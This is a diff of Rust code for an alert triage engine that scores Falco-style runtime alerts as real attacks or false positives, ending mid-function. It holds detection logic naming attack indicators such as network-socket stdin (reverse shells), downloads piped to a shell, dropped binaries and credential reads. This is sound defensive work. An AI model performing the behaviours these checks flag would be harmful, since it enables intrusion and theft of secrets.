@@ -5,8 +5,6 @@
 //! starts at 0.5 (no evidence either way) and each signal adds its effect in log-odds:
 //! positive effects point to a false positive, negative ones to a real attack.
 
-use std::collections::HashMap;
-
 use quell_events::FlatEvent;
 use quell_rules::engine::Engine;
 use quell_rules::output::falco_time;
@@ -15,10 +13,11 @@ use serde_json::{json, Value as Json};
 
 use crate::catalogue::Catalogue;
 use crate::cluster::{cluster, target, Cluster};
-use crate::evidence::{actor, target_sensitivity, Activity, Sensitivity};
+use crate::evidence::{activity, actor, target_sensitivity, Activity, Sensitivity};
 use crate::history::History;
 use crate::input::{alerts, text, Alert, Record};
-use crate::session::Sessions;
+use crate::session::{Context, Sessions};
+use crate::signals::{self, Kind, Weights};
 
 /// Output language.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
@@ -39,7 +38,7 @@ impl Lang {
             _ => None,
         }
     }
-    fn t(self, en: String, ja: String) -> String {
+    pub(crate) fn t(self, en: String, ja: String) -> String {
         match self {
             Lang::En => en,
             Lang::Ja => ja,
@@ -134,21 +133,14 @@ pub struct ClusterReport {
     /// Record indices of the cluster's alerts.
     #[serde(skip)]
     pub members: Vec<usize>,
+    /// Per signal, its aggregate activation (the effect is its weight times this): what
+    /// the weight fitting works on.
+    #[serde(skip)]
+    pub features: Features,
 }
-
-/// Rules that fire when a person opens a shell in a workload (quell's and Falco's names):
-/// in an interactive session they describe the entry itself, not further activity.
-const SESSION_ENTRY_RULES: &[&str] =
-    &["Terminal Shell in Container", "Terminal shell in container"];
-
-/// Effect of an interactive session (a person at a terminal, an sshd login, a runtime `exec`).
-/// Set to 1.4 after the first corpus run (it was 1.0); see BENCHMARKS.md.
-pub const INTERACTIVE_WEIGHT: f64 = 1.4;
 
 /// How many reasons a report keeps.
 pub const MAX_REASONS: usize = 5;
-/// How many members of a cluster are examined for evidence.
-const MAX_EXAMINED: usize = 256;
 
 /// Everything triage weighs besides the alerts.
 pub struct Triage<'a> {
@@ -164,33 +156,17 @@ pub struct Triage<'a> {
     pub hostname: &'a str,
 }
 
-/// A signal seen on one alert.
-struct Seen {
-    signal: &'static str,
-    evidence_en: String,
-    evidence_ja: String,
-    effect: f64,
-    confirm_en: Option<String>,
-    confirm_ja: Option<String>,
+/// A signal seen on one alert: its id, its activation (the effect is weight x activation)
+/// and the values its text names.
+#[derive(Clone, Debug)]
+struct Hit {
+    id: &'static str,
+    act: f64,
+    vars: Vec<(&'static str, String)>,
 }
 
-fn seen(signal: &'static str, effect: f64, en: String, ja: String) -> Seen {
-    Seen {
-        signal,
-        evidence_en: en,
-        evidence_ja: ja,
-        effect,
-        confirm_en: None,
-        confirm_ja: None,
-    }
-}
-
-impl Seen {
-    fn confirm(mut self, en: String, ja: String) -> Seen {
-        self.confirm_en = Some(en);
-        self.confirm_ja = Some(ja);
-        self
-    }
+fn hit(id: &'static str, act: f64, vars: Vec<(&'static str, String)>) -> Hit {
+    Hit { id, act, vars }
 }
 
 fn sigmoid(x: f64) -> f64 {
@@ -201,6 +177,10 @@ fn round3(x: f64) -> f64 {
     (x * 1000.0).round() / 1000.0
 }
 
+fn kind_of(id: &str) -> Kind {
+    signals::table().get(id).map_or(Kind::Attack, |s| s.kind)
+}
+
 /// A Falco JSON alert for a record: the alert line itself when it is one, else built
 /// from the rule's output format.
 pub fn sample_alert(engine: &Engine, rule: &str, r: &Record, hostname: &str) -> Json {
@@ -209,7 +189,22 @@ pub fn sample_alert(engine: &Engine, rule: &str, r: &Record, hostname: &str) -> 
     }
     let ts = r.event.timestamp_ns().unwrap_or(0);
     match engine.rule(rule) {
-        Some(c) => quell_events::FalcoAlert::new(c, &r.event, ts, hostname).to_json(),
+        Some(c) => {
+            let mut alert = quell_events::FalcoAlert::new(c, &r.event, ts, hostname);
+            // The lineage the cluster signature keys on, so that the sample alert triages
+            // into the cluster it stands for.
+            for level in 1..=crate::evidence::MAX_ANCESTORS {
+                let k = format!("proc.aname[{level}]");
+                match text(&r.event, &k) {
+                    Some(v) => {
+                        alert.output_fields.entry(k).or_insert(json!(v));
+                    }
+                    None if level > 1 => break,
+                    None => {}
+                }
+            }
+            alert.to_json()
+        }
         None => {
             json!({ "hostname": hostname, "rule": rule, "output_fields": {}, "time": falco_time(ts) })
         }
@@ -261,21 +256,271 @@ fn describe_action(ev: &FlatEvent, lang: Lang) -> String {
     }
 }
 
+/// Records pushed one at a time into triage (see [`Triage::stream`]).
+pub struct Stream<'a> {
+    triage: &'a Triage<'a>,
+    kept: Vec<Record>,
+    orig: Vec<usize>,
+    alerts: Vec<Alert>,
+    sessions: Sessions,
+    pushed: usize,
+}
+
+impl Stream<'_> {
+    /// Adds the next record: kept when it is an alert (an alert line, or an event a rule
+    /// matches) or an activity the session context weighs; otherwise only counted in its
+    /// session.
+    pub fn push(&mut self, r: Record) {
+        let rules = self.triage.rules_for(&r);
+        self.push_evaluated(r, rules);
+    }
+
+    /// [`Stream::push`] of a record whose rules were found already (by
+    /// [`Triage::rules_for`], e.g. on another thread).
+    pub fn push_evaluated(&mut self, r: Record, rules: Vec<String>) {
+        let at = self.pushed;
+        self.pushed += 1;
+        let t = self.triage;
+        let is_maint = |n: &str| t.catalogue.entry_for_actor(n).is_some();
+        let irrelevant = rules.is_empty() && activity(&r.event, &is_maint).is_none();
+        if irrelevant {
+            self.sessions.count_event(&r);
+            return;
+        }
+        let k = self.kept.len();
+        self.sessions.push(k, &r, t.catalogue);
+        for rule in rules {
+            self.alerts.push(Alert { rule, index: k });
+        }
+        self.kept.push(r);
+        self.orig.push(at);
+    }
+
+    /// How many records were pushed.
+    pub fn pushed(&self) -> usize {
+        self.pushed
+    }
+
+    /// Triages what was pushed.
+    pub fn finish(
+        mut self,
+        weights: &Weights,
+        progress: &mut dyn FnMut(usize, usize),
+    ) -> Vec<ClusterReport> {
+        self.sessions.finish(self.triage.catalogue);
+        let mut reports =
+            self.triage
+                .run_core(&self.kept, &self.alerts, self.sessions, weights, progress);
+        for r in &mut reports {
+            for m in &mut r.members {
+                *m = self.orig.get(*m).copied().unwrap_or(*m);
+            }
+        }
+        reports
+    }
+}
+
+/// One signal in a cluster part: id, alerts showing it, sum and maximum of its activation,
+/// the first alert's values for its text.
+type AggSignal = (&'static str, usize, f64, f64, Vec<(&'static str, String)>);
+
+/// The signals of one cluster part summed up: per signal, how many alerts show it, the
+/// sum and the maximum of its activation, and the first alert's values for its text.
+#[derive(Default)]
+struct Agg {
+    members: Vec<usize>,
+    signals: Vec<AggSignal>,
+}
+
+impl Agg {
+    fn add(&mut self, at: usize, hits: Vec<Hit>) {
+        self.members.push(at);
+        for h in hits {
+            match self.signals.iter_mut().find(|s| s.0 == h.id) {
+                Some(s) => {
+                    s.1 += 1;
+                    s.2 += h.act;
+                    if h.act > s.3 {
+                        s.3 = h.act;
+                    }
+                }
+                None => self.signals.push((h.id, 1, h.act, h.act, h.vars)),
+            }
+        }
+    }
+}
+
+/// The features of a cluster for fitting: per signal, its aggregate activation (attack
+/// signals: the strongest over the alerts; benign ones: the mean over the alerts), so that
+/// the cluster's log-odds are the sum of weight x feature.
+pub type Features = Vec<(String, f64)>;
+
 impl Triage<'_> {
     /// Triages records (a recording or Falco alerts): finds the alerts, clusters them and
-    /// returns one report per cluster, in order of first appearance.
+    /// returns one report per cluster, in order of first appearance. A cluster whose alerts
+    /// get different verdicts is split by verdict.
     pub fn run(&self, records: &[Record]) -> Vec<ClusterReport> {
+        self.run_with(records, &signals::table().weights(), &mut |_, _| {})
+    }
+
+    /// [`Triage::run`] with given signal weights (a fitted set) and a progress callback
+    /// called with (alerts done, alerts in all) every few thousand alerts.
+    pub fn run_with(
+        &self,
+        records: &[Record],
+        weights: &Weights,
+        progress: &mut dyn FnMut(usize, usize),
+    ) -> Vec<ClusterReport> {
         let all = alerts(self.engine, records);
-        let clusters = cluster(&all, records);
-        let sessions = Sessions::new(records);
-        let mut by_record: HashMap<usize, Vec<&Alert>> = HashMap::new();
-        for a in &all {
-            by_record.entry(a.index).or_default().push(a);
+        let sessions = Sessions::build(records, self.catalogue);
+        self.run_core(records, &all, sessions, weights, progress)
+    }
+
+    /// The rules a record stands for: the rule an alert line names, or the first rule an
+    /// event matches (as in Falco).
+    pub fn rules_for(&self, r: &Record) -> Vec<String> {
+        match &r.rule {
+            Some(rule) => vec![rule.clone()],
+            None => self
+                .engine
+                .evaluate(&r.event, quell_rules::engine::RuleMatching::First)
+                .into_iter()
+                .map(|c| c.name.clone())
+                .collect(),
         }
-        clusters
-            .iter()
-            .map(|c| self.report(c, records, &sessions, &by_record))
-            .collect()
+    }
+
+    /// Triage of records given one at a time ([`Stream::push`]): only alerts and the
+    /// session activities triage weighs are kept, so that long recordings fit in memory.
+    /// The reports' `members` are the indices of the records in the order pushed.
+    pub fn stream(&self) -> Stream<'_> {
+        Stream {
+            triage: self,
+            kept: Vec::new(),
+            orig: Vec::new(),
+            alerts: Vec::new(),
+            sessions: Sessions::default(),
+            pushed: 0,
+        }
+    }
+
+    fn run_core(
+        &self,
+        records: &[Record],
+        all: &[Alert],
+        mut sessions: Sessions,
+        weights: &Weights,
+        progress: &mut dyn FnMut(usize, usize),
+    ) -> Vec<ClusterReport> {
+        let clusters = cluster(all, records);
+        // Alerts whose own lineage shows an attack count against the other alerts of their
+        // session; the others (the same benign session's several alerts) do not.
+        for a in all {
+            if let Some(r) = records.get(a.index) {
+                if self.intrinsically_suspicious(&r.event) {
+                    sessions.add_suspicious_alert(records, a.index, &a.rule);
+                }
+            }
+        }
+        let w = |id: &str| weights.get(id).copied().unwrap_or(0.0);
+        let total = all.len();
+        let mut done = 0usize;
+        let mut out: Vec<(usize, ClusterReport)> = Vec::new();
+        for c in &clusters {
+            let rule = &c.signature.rule;
+            let hist_hits = self.history_hits(&c.id);
+            let mut parts: Vec<(Verdict, Agg)> = Vec::new();
+            for &i in &c.members {
+                let mut hits = self.signals_for(rule, records, i, &sessions);
+                hits.extend(hist_hits.iter().cloned());
+                let logit: f64 = hits.iter().map(|h| w(h.id) * h.act).sum();
+                let v = Verdict::from_score(round3(sigmoid(logit)));
+                match parts.iter_mut().find(|(pv, _)| *pv == v) {
+                    Some((_, agg)) => agg.add(i, hits),
+                    None => {
+                        let mut agg = Agg::default();
+                        agg.add(i, hits);
+                        parts.push((v, agg));
+                    }
+                }
+                done += 1;
+                if done % 4096 == 0 {
+                    progress(done, total);
+                }
+            }
+            let split = parts.len() > 1;
+            for (v, agg) in parts {
+                let id = if split {
+                    c.signature.id_for(v.as_str())
+                } else {
+                    c.id.clone()
+                };
+                let first = agg.members.first().copied().unwrap_or(0);
+                out.push((first, self.report(c, id, agg, records, weights)));
+            }
+        }
+        progress(total, total);
+        out.sort_by_key(|(first, _)| *first);
+        out.into_iter().map(|(_, r)| r).collect()
+    }
+
+    /// An alert whose own process lineage shows an attack: a service's shell or a
+    /// dropped binary the catalogue does not explain, a network stdin, a service account at
+    /// a terminal.
+    fn intrinsically_suspicious(&self, ev: &FlatEvent) -> bool {
+        let a = actor(ev);
+        let cat = self.catalogue.find(ev);
+        let allows = |s: &str| cat.as_ref().is_some_and(|m| m.entry.allows_signal(s));
+        let dropped = a.dropped_exe.as_ref().is_some_and(|(_, p)| {
+            !allows("dropped_binary")
+                && self
+                    .catalogue
+                    .built(p, None, a.dropped_parent.as_deref())
+                    .is_none()
+        });
+        (a.service_shell.is_some() && !allows("service_shell"))
+            || dropped
+            || a.network_stdio.is_some()
+            || (a.tty && a.system_account.is_some())
+    }
+
+    fn history_hits(&self, id: &str) -> Vec<Hit> {
+        let p = self.history.prevalence(id);
+        let mut out = Vec::new();
+        if p.real > 0 {
+            out.push(hit(
+                "history_real",
+                1.0,
+                vec![
+                    ("real", p.real.to_string()),
+                    ("benign", p.benign.to_string()),
+                ],
+            ));
+        } else if p.benign > 0 {
+            out.push(hit(
+                "history_benign",
+                (1.0 + 0.5 * (1.0 + p.benign as f64).ln()).min(2.5),
+                vec![("benign", p.benign.to_string())],
+            ));
+        } else if self.history.given && p.count >= 10 && (p.hosts >= 2 || p.span_s >= 86_400) {
+            out.push(hit(
+                "prevalence_common",
+                1.0,
+                vec![
+                    ("count", p.count.to_string()),
+                    ("hosts", p.hosts.to_string()),
+                    ("workloads", p.workloads.to_string()),
+                    ("days", format!("{:.1}", p.span_s as f64 / 86_400.0)),
+                ],
+            ));
+        } else if self.history.given && p.count == 0 {
+            out.push(hit(
+                "prevalence_new",
+                1.0,
+                vec![("total", self.history.total.to_string())],
+            ));
+        }
+        out
     }
 
     fn signals_for(
@@ -284,289 +529,271 @@ impl Triage<'_> {
         records: &[Record],
         at: usize,
         sessions: &Sessions,
-        by_record: &HashMap<usize, Vec<&Alert>>,
-    ) -> Vec<Seen> {
+    ) -> Vec<Hit> {
         let mut out = Vec::new();
         let Some(r) = records.get(at) else { return out };
         let ev = &r.event;
         let proc_name = text(ev, "proc.name").unwrap_or_else(|| "?".into());
-        if let Some(m) = self.catalogue.find(ev) {
-            let who = if m.level == 0 {
-                proc_name.to_string()
-            } else {
-                format!("{proc_name} (ancestor {} = {})", m.level, m.actor)
-            };
-            let who_ja = if m.level == 0 {
-                proc_name.clone()
-            } else {
-                format!("{proc_name}（{} 代前の親 {}）", m.level, m.actor)
-            };
-            out.push(
-                seen(
-                    "known_benign",
-                    m.entry.weight,
-                    format!(
-                        "{who} matches the known-benign catalogue entry `{}`: {}",
-                        m.entry.name, m.entry.description_en
-                    ),
-                    format!(
-                        "{who_ja} は既知の正常動作カタログの `{}`（{}）に該当します",
-                        m.entry.name, m.entry.description_ja
-                    ),
-                )
-                .confirm(
-                    format!(
-                        "that {} ran as part of a scheduled or approved job",
-                        m.actor
-                    ),
-                    format!(
-                        "{} の実行が定期ジョブまたは承認済みの作業によるものか",
-                        m.actor
-                    ),
-                ),
-            );
-        }
         let a = actor(ev);
-        if let Some((lvl, path)) = &a.dropped_exe {
-            let whose = if *lvl == 0 {
-                "the process itself".to_string()
+        let lang = self.lang;
+        let when = |b: bool| -> String {
+            match (b, lang) {
+                (true, Lang::En) => "before",
+                (false, Lang::En) => "after",
+                (true, Lang::Ja) => "前",
+                (false, Lang::Ja) => "後",
+            }
+            .to_string()
+        };
+
+        // Session facts first: they decide whether catalogue entries may apply.
+        let ctx = sessions.context(records, at);
+        let download = ctx.iter().find(|c| match &c.act.activity {
+            Activity::Download(..) => true,
+            Activity::FetchToStdout(..) => sessions.piped_to_shell(records, c.act),
+            _ => false,
+        });
+        let downloaded = download.is_some();
+        let counts = |c: &&Context| c.act.excused.is_none() || downloaded;
+        let exec_dropped = ctx
+            .iter()
+            .filter(counts)
+            .find(|c| matches!(c.act.activity, Activity::ExecDropped(_)));
+        let outbound = ctx
+            .iter()
+            .filter(counts)
+            .find(|c| matches!(c.act.activity, Activity::Outbound(..)));
+        let net_stdio = ctx
+            .iter()
+            .find(|c| matches!(c.act.activity, Activity::NetworkStdio(_)));
+        let creds = ctx
+            .iter()
+            .filter(counts)
+            .find(|c| matches!(c.act.activity, Activity::CredentialRead(..)));
+        let maintenance = ctx
+            .iter()
+            .find(|c| matches!(c.act.activity, Activity::Maintenance(_)));
+
+        // The catalogue: never with a download or a network stdin in the session.
+        let cat = if downloaded || net_stdio.is_some() {
+            None
+        } else {
+            self.catalogue.find(ev)
+        };
+        let allows = |s: &str| cat.as_ref().is_some_and(|m| m.entry.allows_signal(s));
+        if let Some(m) = &cat {
+            let (who, who_ja) = if m.level == 0 {
+                (proc_name.clone(), proc_name.clone())
             } else {
-                format!("its ancestor {lvl} levels up")
-            };
-            let whose_ja = if *lvl == 0 {
-                "プロセス自身".to_string()
-            } else {
-                format!("{lvl} 代前の親プロセス")
-            };
-            out.push(
-                seen(
-                    "dropped_binary",
-                    -2.5,
-                    format!("{whose} runs {path}, from a temporary directory, memfd or a layer written after the container started"),
-                    format!("{whose_ja}が一時ディレクトリ・memfd・コンテナ起動後に書かれたレイヤーの {path} から実行されています"),
+                (
+                    format!("{proc_name} (ancestor {} = {})", m.level, m.actor),
+                    format!("{proc_name}（{} 代前の親 {}）", m.level, m.actor),
                 )
-                .confirm(
-                    format!("where {path} came from (its hash, who wrote it, the download source)"),
-                    format!("{path} の出所（ハッシュ値、書き込んだプロセス、ダウンロード元）"),
-                ),
-            );
+            };
+            let desc = match lang {
+                Lang::En => m.entry.description_en.clone(),
+                Lang::Ja => m.entry.description_ja.clone(),
+            };
+            out.push(hit(
+                "known_benign",
+                m.entry.weight,
+                vec![
+                    ("who", if lang == Lang::Ja { who_ja } else { who }),
+                    ("entry", m.entry.name.clone()),
+                    ("desc", desc),
+                    ("actor", m.actor.clone()),
+                ],
+            ));
         }
-        if let Some((server, shell)) = &a.service_shell {
-            out.push(
-                seen(
-                    "service_shell",
-                    -2.2,
-                    format!("a shell ({shell}) spawned by the service {server} is in the process lineage: a service does not normally run shells"),
-                    format!("サービス {server} が起動したシェル（{shell}）がプロセスの系譜にあります。通常サービスはシェルを起動しません"),
-                )
-                .confirm(
-                    format!("the {server} access and error logs for the request that started the shell"),
-                    format!("シェルを起動したリクエストを {server} のアクセスログ・エラーログで確認"),
-                ),
-            );
+        // The process's own lineage.
+        let dropped = a.dropped_exe.as_ref().filter(|(_, p)| {
+            downloaded
+                || !(allows("dropped_binary")
+                    || self
+                        .catalogue
+                        .built(p, sessions.writer(at, p), a.dropped_parent.as_deref())
+                        .is_some())
+        });
+        if let Some((lvl, path)) = dropped {
+            let whose = match (lang, *lvl) {
+                (Lang::En, 0) => "the process itself".to_string(),
+                (Lang::En, l) => format!("its ancestor {l} levels up"),
+                (Lang::Ja, 0) => "プロセス自身".to_string(),
+                (Lang::Ja, l) => format!("{l} 代前の親プロセス"),
+            };
+            out.push(hit(
+                "dropped_binary",
+                1.0,
+                vec![("whose", whose), ("path", path.clone())],
+            ));
         }
-        if a.service_shell.is_none()
-            && a.dropped_exe.is_none()
-            && (a.tty || a.entry.is_some() || a.runtime.is_some())
-        {
+        let service_shell = a
+            .service_shell
+            .as_ref()
+            .filter(|_| !allows("service_shell"));
+        if let Some((server, shell)) = service_shell {
+            out.push(hit(
+                "service_shell",
+                1.0,
+                vec![("server", server.clone()), ("shell", shell.clone())],
+            ));
+        }
+        if let Some(what) = &a.network_stdio {
+            let what = match lang {
+                Lang::En => what.clone(),
+                Lang::Ja => format!("標準入出力がネットワークソケットです（{what}）"),
+            };
+            out.push(hit("network_stdio", 1.0, vec![("what", what)]));
+        }
+        if let (true, Some(user)) = (a.tty, &a.system_account) {
+            out.push(hit(
+                "system_account_terminal",
+                1.0,
+                vec![("user", user.clone())],
+            ));
+        }
+        // A person at a terminal: a tty with a login or runtime exec entry, no service,
+        // no service account, no network stdin, and nothing fetched, dropped or redirected
+        // to the network in the session.
+        let interactive = a.tty
+            && (a.entry.is_some() || a.runtime.is_some())
+            && a.service.is_none()
+            && service_shell.is_none()
+            && a.system_account.is_none()
+            && a.network_stdio.is_none()
+            && a.scheduler.is_none()
+            && dropped.is_none()
+            && !downloaded
+            && exec_dropped.is_none()
+            && net_stdio.is_none();
+        if interactive {
             let mut how = Vec::new();
-            let mut how_ja = Vec::new();
-            if a.tty {
-                how.push("a controlling terminal".to_string());
-                how_ja.push("制御端末（tty）".to_string());
+            match lang {
+                Lang::En => how.push("a controlling terminal".to_string()),
+                Lang::Ja => how.push("制御端末（tty）".to_string()),
             }
             if let Some(e) = &a.entry {
-                how.push(format!("entered through {e}"));
-                how_ja.push(format!("{e} 経由のログイン"));
+                how.push(match lang {
+                    Lang::En => format!("entered through {e}"),
+                    Lang::Ja => format!("{e} 経由のログイン"),
+                });
             }
             if let Some(rt) = &a.runtime {
-                how.push(format!(
-                    "a shell entered through the container runtime ({rt})"
-                ));
-                how_ja.push(format!("コンテナランタイム（{rt}）経由で入ったシェル"));
+                how.push(match lang {
+                    Lang::En => format!("a shell entered through the container runtime ({rt})"),
+                    Lang::Ja => format!("コンテナランタイム（{rt}）経由で入ったシェル"),
+                });
             }
-            out.push(
-                seen(
-                    "interactive_session",
-                    INTERACTIVE_WEIGHT,
-                    format!("run by a person in an interactive session: {}", how.join(", ")),
-                    format!("対話セッションで人が実行しています：{}", how_ja.join("、")),
-                )
-                .confirm(
-                    "who was logged in at that time and whether the change was planned (change ticket, shell history)".into(),
-                    "その時刻にログインしていた人と、作業が計画されたものか（変更チケット、シェル履歴）".into(),
-                ),
-            );
+            let sep = if lang == Lang::Ja { "、" } else { ", " };
+            out.push(hit(
+                "interactive_session",
+                1.0,
+                vec![("how", how.join(sep))],
+            ));
         }
         if let Some((t, s)) = target_sensitivity(ev) {
             match s {
-                Sensitivity::Low => out.push(seen(
-                    "target_sensitivity",
-                    0.8,
-                    format!("the target {t} is housekeeping data (a package manager's log or a rotated archive)"),
-                    format!("対象 {t} はパッケージ管理のログやローテート済みアーカイブなど、重要度の低いデータです"),
-                )),
-                Sensitivity::High => out.push(
-                    seen(
-                        "target_sensitivity",
-                        -1.2,
-                        format!("the target {t} is sensitive (authentication or audit records, shell history or credentials)"),
-                        format!("対象 {t} は認証・監査記録、シェル履歴、認証情報などの重要なデータです"),
-                    )
-                    .confirm(
-                        format!("whether {t} was backed up or forwarded before the change"),
-                        format!("{t} が変更前にバックアップまたは転送されていたか"),
-                    ),
-                ),
+                Sensitivity::Low => out.push(hit("target_housekeeping", 1.0, vec![("target", t)])),
+                // An agent that reads every file by design (a backup agent) is not weighed
+                // down by what it reads, when its catalogue entry says so.
+                Sensitivity::High if allows("target_sensitive") => {}
+                Sensitivity::High => out.push(hit("target_sensitive", 1.0, vec![("target", t)])),
+                Sensitivity::Persistence => {
+                    out.push(hit("target_persistence", 1.0, vec![("target", t)]))
+                }
                 Sensitivity::Medium => {}
             }
         }
         // Session context.
-        let is_maint = |n: &str| self.catalogue.entry_for_actor(n).is_some();
-        let ctx = sessions.context(records, at, &is_maint);
-        let when = |b: bool, lang_ja: bool| match (b, lang_ja) {
-            (true, false) => "before",
-            (false, false) => "after",
-            (true, true) => "前",
-            (false, true) => "後",
-        };
-        let mut kinds = Vec::new();
-        if let Some(c) = ctx
-            .iter()
-            .find(|c| matches!(c.activity, Activity::Download(..)))
-        {
-            if let Activity::Download(p, cmd) = &c.activity {
+        let mut kinds: Vec<&str> = Vec::new();
+        if let Some(c) = download {
+            if let Activity::Download(p, cmd) | Activity::FetchToStdout(p, cmd) = &c.act.activity {
                 kinds.push("download");
-                out.push(
-                    seen(
-                        "session_download",
-                        -1.2,
-                        format!("the same session downloaded a file {} the alert: `{cmd}`", when(c.before, false)),
-                        format!("同じセッションがアラートの{}にファイルをダウンロードしています：`{cmd}`", when(c.before, true)),
-                    )
-                    .confirm(format!("what {p} fetched and from where"), format!("{p} が何をどこから取得したか")),
-                );
-            }
-        }
-        if let Some(c) = ctx
-            .iter()
-            .find(|c| matches!(c.activity, Activity::ExecDropped(_)))
-        {
-            if let Activity::ExecDropped(p) = &c.activity {
-                kinds.push("exec");
-                out.push(seen(
-                    "session_exec_dropped",
-                    -1.5,
-                    format!("the same session ran {p} from a temporary directory or memfd {} the alert", when(c.before, false)),
-                    format!("同じセッションがアラートの{}に一時ディレクトリまたは memfd の {p} を実行しています", when(c.before, true)),
+                out.push(hit(
+                    "session_download",
+                    1.0,
+                    vec![
+                        ("when", when(c.before)),
+                        ("cmd", cmd.clone()),
+                        ("prog", p.clone()),
+                    ],
                 ));
             }
         }
-        if let Some(c) = ctx
-            .iter()
-            .find(|c| matches!(c.activity, Activity::Outbound(_)))
-        {
-            if let Activity::Outbound(addr) = &c.activity {
+        if let Some(c) = exec_dropped {
+            if let Activity::ExecDropped(p) = &c.act.activity {
+                kinds.push("exec");
+                out.push(hit(
+                    "session_exec_dropped",
+                    1.0,
+                    vec![("path", p.clone()), ("when", when(c.before))],
+                ));
+            }
+        }
+        if let Some(c) = outbound {
+            if let Activity::Outbound(addr, prog) = &c.act.activity {
                 kinds.push("outbound");
-                out.push(
-                    seen(
-                        "session_outbound",
-                        -1.0,
-                        format!("the same session connected to a non-local address {} the alert: {addr}", when(c.before, false)),
-                        format!("同じセッションがアラートの{}に外部アドレスへ接続しています：{addr}", when(c.before, true)),
-                    )
-                    .confirm(format!("who owns {addr}"), format!("{addr} の所有者")),
-                );
+                out.push(hit(
+                    "session_outbound",
+                    1.0,
+                    vec![
+                        ("addr", addr.clone()),
+                        ("prog", prog.clone()),
+                        ("when", when(c.before)),
+                    ],
+                ));
             }
         }
-        if let Some(c) = ctx
-            .iter()
-            .find(|c| matches!(c.activity, Activity::CredentialRead(_)))
-        {
-            if let Activity::CredentialRead(p) = &c.activity {
+        if let Some(c) = net_stdio {
+            if let Activity::NetworkStdio(addr) = &c.act.activity {
+                kinds.push("network-stdio");
+                out.push(hit(
+                    "session_network_stdio",
+                    1.0,
+                    vec![("addr", addr.clone()), ("when", when(c.before))],
+                ));
+            }
+        }
+        if let Some(c) = creds {
+            if let Activity::CredentialRead(p, _) = &c.act.activity {
                 kinds.push("credentials");
-                out.push(
-                    seen(
-                        "session_credentials",
-                        -1.5,
-                        format!(
-                            "the same session read credentials {} the alert: {p}",
-                            when(c.before, false)
-                        ),
-                        format!(
-                            "同じセッションがアラートの{}に認証情報を読み取っています：{p}",
-                            when(c.before, true)
-                        ),
-                    )
-                    .confirm(
-                        format!("whether the secrets in {p} must be rotated"),
-                        format!("{p} の秘密情報を更新（ローテーション）すべきか"),
-                    ),
-                );
+                out.push(hit(
+                    "session_credentials",
+                    1.0,
+                    vec![("path", p.clone()), ("when", when(c.before))],
+                ));
             }
         }
-        // An interactive session's own way in (a terminal shell opened in a container) is
-        // not "other suspicious activity": a person entering is what made it interactive.
-        let interactive = a.service_shell.is_none()
-            && a.dropped_exe.is_none()
-            && (a.tty || a.entry.is_some() || a.runtime.is_some());
-        let others: Vec<_> = sessions
-            .other_alerts(records, by_record, at, rule)
-            .into_iter()
-            .filter(|o| !(interactive && SESSION_ENTRY_RULES.contains(&o.rule.as_str())))
-            .collect();
+        let others = sessions.other_alerts(records, at, rule);
         if !others.is_empty() {
             kinds.push("alerts");
+            let sep = if lang == Lang::Ja { "、" } else { ", " };
             let names: Vec<String> = others
                 .iter()
                 .take(3)
-                .map(|o| format!("\"{}\"", o.rule))
+                .map(|(r, _)| format!("\"{r}\""))
                 .collect();
-            out.push(seen(
+            out.push(hit(
                 "session_other_alerts",
-                -(others.len().min(2) as f64),
-                format!("the same session raised other alerts: {}", names.join(", ")),
-                format!(
-                    "同じセッションで他のアラートも発生しています：{}",
-                    names.join("、")
-                ),
+                others.len().min(2) as f64,
+                vec![("names", names.join(sep))],
             ));
         }
         if kinds.len() >= 2 {
-            out.push(
-                seen(
-                    "attack_chain",
-                    -1.5,
-                    format!("these steps form an attack chain: {}", kinds.join(" → ")),
-                    format!("一連の動作が攻撃の流れを成しています：{}", kinds.join(" → ")),
-                )
-                .confirm(
-                    "the whole process tree of the session: isolate the workload if the chain is confirmed".into(),
-                    "セッションのプロセスツリー全体。攻撃の流れが確認されたらワークロードを隔離してください".into(),
-                ),
-            );
+            out.push(hit("attack_chain", 1.0, vec![("chain", kinds.join(" → "))]));
         }
         if kinds.is_empty() {
-            if let Some(c) = ctx
-                .iter()
-                .find(|c| matches!(c.activity, Activity::Maintenance(_)))
-            {
-                if let Activity::Maintenance(n) = &c.activity {
-                    out.push(seen(
+            if let Some(c) = maintenance {
+                if let Activity::Maintenance(n) = &c.act.activity {
+                    out.push(hit(
                         "session_maintenance",
                         if c.before { 1.0 } else { 0.5 },
-                        format!("the same session ran the maintenance program {n} {} the alert (e.g. a package install, then cleanup)", when(c.before, false)),
-                        format!("同じセッションがアラートの{}に保守プログラム {n} を実行しています（パッケージ導入後の後片付けなど）", when(c.before, true)),
+                        vec![("name", n.clone()), ("when", when(c.before))],
                     ));
                 }
-            } else if interactive && others.is_empty() {
-                // Stated, but weighed lightly: a quiet session is weak evidence on its own.
-                out.push(seen(
-                    "session_quiet",
-                    0.2,
-                    "no other suspicious activity in the session (no download, dropped binary, outbound connection, credential read or other alert)".to_string(),
-                    "セッション内に他の不審な動作はありません（ダウンロード、持ち込まれたバイナリの実行、外部接続、認証情報の読み取り、他のアラートのいずれもなし）".to_string(),
-                ));
+            } else if interactive && sessions.seen(records, at) {
+                // Only from a session quell saw as events: bare alerts say nothing of it.
+                out.push(hit("session_quiet", 1.0, Vec::new()));
             }
         }
         out
@@ -575,114 +802,40 @@ impl Triage<'_> {
     fn report(
         &self,
         c: &Cluster,
+        id: String,
+        agg: Agg,
         records: &[Record],
-        sessions: &Sessions,
-        by_record: &HashMap<usize, Vec<&Alert>>,
+        weights: &Weights,
     ) -> ClusterReport {
         let lang = self.lang;
         let rule = &c.signature.rule;
-        let examined: Vec<usize> = c.members.iter().copied().take(MAX_EXAMINED).collect();
-        let n = examined.len().max(1) as f64;
-        // Per signal: how many members show it, the first evidence, and the effect.
-        let mut agg: Vec<(Seen, usize)> = Vec::new();
-        for &i in &examined {
-            for s in self.signals_for(rule, records, i, sessions, by_record) {
-                match agg.iter_mut().find(|(a, _)| a.signal == s.signal) {
-                    Some((a, k)) => {
-                        *k += 1;
-                        if s.effect.abs() > a.effect.abs() {
-                            a.effect = s.effect;
-                        }
-                    }
-                    None => agg.push((s, 1)),
-                }
-            }
-        }
+        let n = agg.members.len().max(1);
         let mut reasons: Vec<(Reason, Option<String>)> = Vec::new();
-        for (s, k) in agg {
+        let mut features: Features = Vec::new();
+        for (sid, k, sum, max, vars) in agg.signals {
             // Signals toward "real" count if any alert shows them; toward "benign" only
             // in proportion to the alerts that show them.
-            let effect = if s.effect < 0.0 {
-                s.effect
-            } else {
-                s.effect * (k as f64) / n
+            let feature = match kind_of(sid) {
+                Kind::Attack => max,
